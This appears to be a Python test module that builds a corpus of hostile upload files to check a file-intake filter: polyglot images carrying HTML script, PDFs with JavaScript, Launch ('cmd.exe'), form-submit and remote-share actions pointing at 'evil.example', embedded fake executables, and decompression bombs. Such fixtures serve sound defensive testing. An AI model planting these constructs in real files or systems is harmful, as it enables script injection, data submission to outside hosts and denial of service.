"""Five hundred files that nobody should have sent, made by ourselves, no two alike."""

import io
import random
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache

import pikepdf
from openpyxl import Workbook
from pikepdf import Dictionary, Name, String

from tests import papers
from tests.faults import poisoned_workbooks

SCRIPT = b"<html><body><script>alert(1)</script></body></html>"
MEGABYTE = bytes(1 << 20)
TAKEN, REFUSED, EITHER = "taken", "refused", "either"


@dataclass(frozen=True)
class Poison:
    what: str
    name: str
    data: bytes
    fate: str


def corpus(every: int = 1) -> Iterator[Poison]:
    """All of them, or of each kind only every so manyth, but never less than two."""
    for make, times in RECIPES:
        for number in range(0, times, min(every, times - 1)):
            yield make(number, random.Random(f"{make.__name__}{number}"))


@cache
def small(kind: str = "JPEG") -> bytes:
    return papers.picture((120, 160), kind)


@cache
def plain_pdf() -> bytes:
    return papers.pdf()


@cache
def heic() -> bytes:
    import pillow_heif

    pillow_heif.register_heif_opener()
    return small("HEIF")


def again_and_again(piece: bytes, times: int, *, before: bytes = b"") -> bytes:
    """Deflated: whoever repeats himself is packed once, in blocks that know of no other."""
    packer = zlib.compressobj(1, wbits=-zlib.MAX_WBITS)
    blocks = [packer.compress(one) + packer.flush(zlib.Z_FULL_FLUSH) for one in (before, piece)]
    checksum = zlib.adler32(before)
    for _ in range(times):
        checksum = zlib.adler32(piece, checksum)
    end = b"\x03\0" + checksum.to_bytes(4, "big")
    return b"\x78\x01" + blocks[0] + blocks[1] * times + end


@cache
def zeros() -> bytes:
    return again_and_again(MEGABYTE, 64)


@cache
def object_stream() -> bytes:
    """Two objects, and behind them half a gigabyte of nothing."""
    return again_and_again(MEGABYTE, 9 * 64, before=b"1 0 2 20 <</Type/Catalog>> ")


def wrong_type(number: int, luck: random.Random) -> Poison:
    """Something else under the name of a picture; SVG and HTML above all."""
    heads = (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        SCRIPT,
        b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><svg/>",
        b"MZ\x90\0\3",
        b"PK\x03\x04\x14\0",
        b"GIF89a\x01\0\x01\0/*" + SCRIPT,
        b"BM\x46\0\0\0",
        b"II*\0\x08\0\0\0",
        b"RIFF\x24\0\0\0WEBPVP8 ",
        b"\0\0\0\x1cftypavif\0\0\0\0",
        b"\x7fELF\x02\x01\x01",
        b"Rar!\x1a\x07\0",
        b"%!PS-Adobe-3.0\n",
        b"{\\rtf1 x}",
        b"\xff\xd8" + SCRIPT,
        b"\0\0\0\x18ftypmp42",
    )
    ends = ("png", "jpg", "jpeg", "pdf", "heic", "PNG")
    data = heads[number % len(heads)] + luck.randbytes(luck.randrange(200))
    return Poison("wrong_type", f"证照.{ends[number % len(ends)]}", data, REFUSED)


def workbook(number: int, _luck: random.Random) -> Poison:
    """A spreadsheet, itself poisoned, among papers that are pictures and documents."""
    one = workbooks()[number % len(workbooks())]
    return Poison("workbook", f"报表{number}.xlsx", one, REFUSED)


@cache
def workbooks() -> tuple[bytes, ...]:
    out = io.BytesIO()
    Workbook().save(out)
    good = out.getvalue()
    made = (*poisoned_workbooks.refused(good), *poisoned_workbooks.harmless(good))
    return tuple(data for _, data in made)


def polyglot(number: int, luck: random.Random) -> Poison:
    """A picture or a document that is a page as well: behind it, in a comment, before it."""
    jpeg, png, pad = small(), small("PNG"), luck.randbytes(luck.randrange(40))
    comment = SCRIPT + pad
    in_comment = jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + jpeg[2:]
    text = b"tEXt" + b"Comment\0" + SCRIPT + pad
    chunk = struct.pack(">I", len(text) - 4) + text + struct.pack(">I", zlib.crc32(text))
    made = (
        ("照片.html", jpeg + SCRIPT + pad),
        ("照片.jpg", in_comment),
        ("印章.png", png + SCRIPT + pad),
        ("印章.svg", png[:33] + chunk + png[33:]),
        ("报表.html", plain_pdf() + b"\n" + SCRIPT + pad),
        ("报表.pdf", b"\r\n" + plain_pdf().replace(b"\n%", b"\n%" + SCRIPT + b"\n%", 1)),
    )
    name, data = made[number % len(made)]
    return Poison("polyglot", name, data, EITHER if number % len(made) == 5 else TAKEN)


def acting_pdf(number: int, luck: random.Random) -> Poison:
    """A document that would do something when it is opened, looked at or clicked."""
    script = Dictionary(S=Name.JavaScript, JS=String(f"app.alert({luck.random()})"))
    acts = (
        script,
        Dictionary(S=Name.Launch, F=String("cmd.exe")),
        Dictionary(S=Name.URI, URI=String("http://evil.example/")),
        Dictionary(S=Name.SubmitForm, F=String("http://evil.example/")),
        Dictionary(S=Name.GoToR, F=String("//evil.example/share"), D=String("x")),
        Dictionary(S=Name.ImportData, F=String("x.fdf")),
    )
    act = acts[number // 6 % len(acts)]
    with pikepdf.open(io.BytesIO(plain_pdf())) as pdf:
        page = pdf.pages[0].obj
        place = number % 6
        if place == 0:
            pdf.Root.OpenAction = act
        elif place == 1:
            pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=[String("a"), script]))
            pdf.Root.AA = Dictionary(WC=act)
        elif place == 2:
            page.AA = Dictionary(O=act, C=script)
        elif place == 3:
            pdf.attachments["a.exe"] = b"MZ" + luck.randbytes(50)
            page.AF = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("a.exe")))
        elif place == 4:
            look = pdf.make_stream(b"1 0 0 rg 0 0 40 40 re f", BBox=[0, 0, 40, 40])
            look.Type, look.Subtype, look.Metadata = Name.XObject, Name.Form, act
            page.Annots = [
                pdf.make_indirect(
                    Dictionary(
                        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("b"), F=4,
                        Rect=[100, 100, 140, 140], A=act, AP=Dictionary(N=look),
                    )
                )
            ]  # fmt: skip
            pdf.Root.AcroForm = Dictionary(Fields=list(page.Annots), XFA=String("<xdp/>"))
        else:
            page.Resources.XObject = Dictionary(
                Im0=pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1,
                                    ColorSpace=Name.DeviceGray, BitsPerComponent=8,
                                    F=String("http://evil.example/a"), AF=act, OPI=act)
            )  # fmt: skip
        out = io.BytesIO()
        pdf.save(out)
    return Poison("acting_pdf", "报表.pdf", out.getvalue(), TAKEN)


def huge_picture(number: int, luck: random.Random) -> Poison:
    """A few bytes that say they are a picture as large as a field."""
    width, height = luck.randrange(8_000, 60_000), luck.randrange(8_000, 60_000)
    if number % 2:
        data = bytearray(small())
        at = data.index(b"\xff\xc0")
        data[at + 5 : at + 9] = struct.pack(">HH", height, width)
        return Poison("huge_picture", "照片.jpg", bytes(data), REFUSED)
    head = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = small("PNG")[:8] + struct.pack(">I", 13) + head + struct.pack(">I", zlib.crc32(head))
    return Poison("huge_picture", "照片.png", data + small("PNG")[33:], REFUSED)


def flood(_number: int, luck: random.Random) -> Poison:
    """A picture within the limits whose data are a hundred times smaller than it is."""
    width, height = luck.randrange(6_000, 6_200), 6_400
    rows = (b"\0" + bytes((1, 2, 3, 200)) * width) * 100
    packed = again_and_again(rows, height // 100)
    parts = (
        b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0),
        b"IDAT" + packed,
        b"IEND",
    )
    chunks = (struct.pack(">I", len(p) - 4) + p + struct.pack(">I", zlib.crc32(p)) for p in parts)
    return Poison("flood", "印章.png", small("PNG")[:8] + b"".join(chunks), EITHER)


def bomb_pdf(number: int, luck: random.Random) -> Poison:
    """Kilobytes that unpack to more than the jail has, in a page, an image or an object stream."""
    packed = zeros()
    head = b"%PDF-1.5\n"
    if number % 2:  # objects 1 to n in one compressed stream
        body = object_stream()
        stream = b"5 0 obj<</Type/ObjStm/N 2/First 9/Filter/FlateDecode/Length %d>>stream\n" % len(
            body
        )
        rows = struct.pack(">BHB", 2, 5, 0) + struct.pack(">BHB", 2, 5, 1)
        table = zlib.compress(rows)
        xref = len(head) + len(stream) + len(body) + 18
        end = (
            b"6 0 obj<</Type/XRef/Size 7/W[1 2 1]/Index[1 2]/Root 1 0 R/Filter/FlateDecode"
            b"/Length %d>>stream\n" % len(table)
        ) + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % xref  # fmt: skip
        data = head + stream + body + b"\nendstream endobj\n" + end
        return Poison("bomb_pdf", "报表.pdf", data, REFUSED)
    with pikepdf.open(io.BytesIO(plain_pdf())) as pdf:
        for name in range(5):
            one = pdf.make_stream(b"")
            one.write(packed, filter=Name.FlateDecode)
            pdf.pages[0].obj[f"/X{name}{luck.randrange(9)}"] = one
        out = io.BytesIO()
        pdf.save(out)
    return Poison("bomb_pdf", "报表.pdf", out.getvalue(), REFUSED)


def doubled_pdf(number: int, luck: random.Random) -> Poison:
    """Deflated twice: kilobytes of kilobytes, behind a filter that no single count sees."""
    with pikepdf.open(io.BytesIO(plain_pdf())) as pdf:
        one = pdf.make_stream(b"")
        twice = pikepdf.Array([Name.FlateDecode, Name.FlateDecode])
        one.write(zlib.compress(zeros()), filter=twice)
        place = "/Contents" if number % 2 else f"/X{luck.randrange(9)}"
        pdf.pages[0].obj[place] = one
        out = io.BytesIO()
        pdf.save(out, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)
    return Poison("doubled_pdf", "报表.pdf", out.getvalue(), REFUSED)


def torn(number: int, luck: random.Random) -> Poison:
    """The beginning of a good file, up to anywhere."""
    whole = (small(), small("PNG"), plain_pdf(), heic())[number % 4]
    return Poison("torn", "照片.jpg", whole[: luck.randrange(3, len(whole) * 9 // 10)], EITHER)


def flipped(number: int, luck: random.Random) -> Poison:
    """A good file with some bytes that are not its own."""
    data = bytearray((small(), small("PNG"), plain_pdf(), heic())[number % 4])
    for _ in range(luck.randrange(1, 20)):
        data[luck.randrange(12, len(data))] = luck.randrange(256)
    return Poison("flipped", "照片.heic", bytes(data), EITHER)


def telling(number: int, _luck: random.Random) -> Poison:
    """A good photograph that says where and with what it was taken."""
    return Poison("telling", f"照片{number}.jpg", papers.photo((120, 160 + number)), TAKEN)


def locked(number: int, luck: random.Random) -> Poison:
    with pikepdf.open(io.BytesIO(plain_pdf())) as pdf:
        out = io.BytesIO()
        pdf.save(out, encryption=pikepdf.Encryption(owner=f"o{number}", user=f"{luck.random()}"))
    return Poison("locked", "报表.pdf", out.getvalue(), REFUSED)


RECIPES: tuple[tuple[Callable[[int, random.Random], Poison], int], ...] = (
    (wrong_type, 88),
    (workbook, 36),
    (polyglot, 72),
    (acting_pdf, 72),
    (huge_picture, 60),
    (torn, 72),
    (flipped, 64),
    (telling, 18),
    (locked, 6),
    (flood, 4),
    (bomb_pdf, 4),
    (doubled_pdf, 4),
)
